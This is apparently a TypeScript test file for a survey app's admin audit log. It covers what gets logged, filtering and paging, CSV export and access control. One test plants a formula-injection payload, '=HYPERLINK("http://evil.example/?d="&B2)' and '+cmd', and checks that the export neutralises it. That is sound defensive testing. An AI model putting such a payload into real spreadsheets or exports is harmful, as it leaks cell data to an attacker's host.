// Every admin action writes a row of the audit log (who, from where, what, to what, before/after), and the admin
// reads it back by filters, a page at a time, or as a formula-safe CSV.
import { NO_SOCKET_ADDRESS } from '#server/http/client-address.ts';
import { describe, expect, it } from 'vitest';
import type { AuditAction } from '#shared/audit/actions.ts';
import type { AuditListResponse } from '#shared/api/audit.ts';
import { hungYen2026 } from '#shared/demo/hung-yen-2026.ts';
import { appendAudit } from '#server/audit/append.ts';
import { verifyChain } from '#server/audit/chain.ts';
import { safeCell } from '#server/audit/csv.ts';
import { DEMO_PASSWORDS } from '#server/demo/seed.ts';
import { findAccountByUsername } from '#server/repo/accounts.ts';
import { iterateAuditRows } from '#server/repo/audit-log.ts';
import { problemCode, testApp, type TestApp } from '../support/test-app.ts';

const survey = hungYen2026.survey.slug;

async function admin() {
  const t = await testApp({ demo: true });
  const cookie = await t.signIn('admin', DEMO_PASSWORDS.admin);
  const get = async (path: string) => t.request(path, { headers: { cookie } });
  const post = (path: string, body: unknown = {}) => t.post(path, body, { cookie });
  return { t, cookie, get, post };
}

const log = (t: TestApp) => [...iterateAuditRows(t.db)];
const last = (t: TestApp) => log(t).at(-1)!;

describe('the audit log of admin actions', () => {
  it('records accounts, share links, exports and backups, each as the admin who did it', async () => {
    const { t, get, post } = await admin();
    const adminId = findAccountByUsername(t.db, 'admin')!.id;

    expect((await post('/api/admin/accounts', { username: 'dtv77', displayName: 'Bảy Bảy', role: 'enumerator', password: 'a-long-password' })).status).toBe(201);
    const created = findAccountByUsername(t.db, 'dtv77')!;
    expect(last(t)).toMatchObject({
      actorId: adminId, actor: 'admin', address: NO_SOCKET_ADDRESS, action: 'account.create', target: `account:${created.id}`,
      before: null, after: JSON.stringify({ username: 'dtv77', role: 'enumerator', displayName: 'Bảy Bảy', assignments: [] }),
    });
    expect(last(t).after).not.toContain('a-long-password');

    await post(`/api/admin/accounts/${created.id}/disable`);
    expect(last(t)).toMatchObject({ action: 'account.disable', target: `account:${created.id}`, before: '{"disabled":false}', after: '{"disabled":true}' });
    await post(`/api/admin/accounts/${created.id}/enable`);
    expect(last(t)).toMatchObject({ action: 'account.enable', target: `account:${created.id}` });

    const link = await (await post('/api/share-links', { surveySlug: survey, unitNo: '01', label: 'UBND xã' })).json() as { link: { id: number }; token: string };
    expect(last(t)).toMatchObject({ action: 'share-link.create', target: `share-link:${link.link.id}` });
    expect(last(t).after).not.toContain(link.token);
    await post(`/api/share-links/${link.link.id}/revoke`);
    expect(last(t)).toMatchObject({ action: 'share-link.revoke', target: `share-link:${link.link.id}` });

    expect((await get(`/api/admin/exports/${survey}?format=csv&units=01&status=received`)).status).toBe(200);
    expect(last(t)).toMatchObject({ action: 'export.download', target: `survey:${survey}` });
    expect(JSON.parse(last(t).after!)).toMatchObject({ format: 'csv', filters: { units: ['01'], statuses: ['received'] }, rows: 0 });

    const backup = await (await post('/api/admin/backups')).json() as { backup: { name: string } };
    expect(last(t)).toMatchObject({ action: 'backup.create', target: `backup:${backup.backup.name}` });
    expect((await get(`/api/admin/backups/${backup.backup.name}`)).status).toBe(200);
    expect(last(t)).toMatchObject({ action: 'backup.download', target: `backup:${backup.backup.name}` });

    // A refused action writes nothing; and the whole log verifies with the app's key.
    const before = log(t).length;
    expect((await post('/api/admin/accounts/99999/disable')).status).toBe(404);
    expect(log(t)).toHaveLength(before);
    expect(verifyChain(t.audit.key, log(t)).breaks).toEqual([]);
  });

  it('lists rows newest first, by action, actor and Vietnam days, a page at a time', async () => {
    const { t, get } = await admin();
    const append = (at: string, actor: string, action: AuditAction, target = 'account:1') => appendAudit(t.db, t.audit.key, { at, actorId: null, actor, address: '10.0.0.9', action, target });
    // 27/05 23:30 in Vietnam is 16:30 UTC; 28/05 00:30 in Vietnam is 27/05 17:30 UTC.
    append('2026-05-27T16:30:00.000Z', 'admin', 'account.disable');
    append('2026-05-27T17:30:00.000Z', 'cli:root', 'account.create');
    append('2026-05-28T10:00:00.000Z', 'admin', 'account.enable');

    const list = async (query: string) => (await (await get(`/api/admin/audit?${query}`)).json()) as AuditListResponse;
    const all = await list('');
    expect(all.entries.map((e) => e.seq)).toEqual([3, 2, 1]);
    expect(all.entries[0]).toMatchObject({ actor: 'admin', address: '10.0.0.9', action: 'account.enable', before: null });
    expect(all.actions).toEqual(['account.create', 'account.disable', 'account.enable']);
    expect(all.actors).toEqual(['admin', 'cli:root']);
    expect(all.more).toBe(false);

    expect((await list('from=2026-05-28&to=2026-05-28')).entries.map((e) => e.seq)).toEqual([3, 2]);
    expect((await list('to=2026-05-27')).entries.map((e) => e.seq)).toEqual([1]);
    expect((await list('actor=cli')).entries.map((e) => e.actor)).toEqual(['cli:root']);
    expect((await list('action=account.disable&actor=admin')).entries.map((e) => e.seq)).toEqual([1]);
    expect((await list('before=3')).entries.map((e) => e.seq)).toEqual([2, 1]);

    for (let n = 0; n < 200; n++) append('2026-05-29T01:00:00.000Z', 'admin', 'backup.create', `backup:${n}`);
    const page = await list('');
    expect(page.entries).toHaveLength(200);
    expect(page.more).toBe(true);
    expect((await list(`before=${page.entries.at(-1)!.seq}`)).entries.map((e) => e.seq)).toEqual([3, 2, 1]);

    expect(await problemCode(await get('/api/admin/audit?from=28/05/2026'))).toBe('request.invalid');
  });

  it('downloads the filtered rows as CSV with formulas neutralised, and records that it did', async () => {
    const { t, get } = await admin();
    appendAudit(t.db, t.audit.key, {
      at: '2026-05-28T01:02:03.000Z', actorId: null, actor: 'cli:root', address: null, action: 'account.create',
      target: '=HYPERLINK("http://evil.example/?d="&B2)', after: { displayName: '+cmd' },
    });
    const response = await get('/api/admin/audit/export.csv?actor=cli');
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="phieu-audit-2026-05-28.csv"');
    // A BOM for Excel: read the bytes as they are (Response.text() would drop it).
    const lines = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer()).split('\r\n');
    expect(lines[0]).toBe('\ufeffSố thứ tự,Thời điểm,Người làm,Địa chỉ,Hành động,Đối tượng,Trước,Sau');
    expect(lines[1]).toMatch(/^1,28\/05\/2026 08:02:03,cli:root,,account\.create,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&B2\)",,"\{""displayName"":""\+cmd""\}"$/);
    expect(lines).toHaveLength(3);
    expect(last(t)).toMatchObject({ actor: 'admin', action: 'audit.export', target: 'audit-log' });
  });

  it('neutralises every formula start a spreadsheet obeys; numbers stay numbers', () => {
    expect(['=1+1', '+1x', '-1x', '@SUM(A1)', '\tx', '\rx'].map(safeCell)).toEqual(["'=1+1", "'+1x", "'-1x", "'@SUM(A1)", "'\tx", "\"'\rx\""]);
    expect([safeCell(-1), safeCell('-1'), safeCell('plain'), safeCell(null), safeCell('a,b')]).toEqual(['-1', '-1', 'plain', '', '"a,b"']);
  });

  it('is refused to everyone but an admin', async () => {
    const t = await testApp({ demo: true });
    const cookie = await t.signIn('dtv01', DEMO_PASSWORDS.enumerator);
    expect((await t.request('/api/admin/audit', { headers: { cookie } })).status).toBe(403);
    expect((await t.request('/api/admin/audit')).status).toBe(401);
  });
});
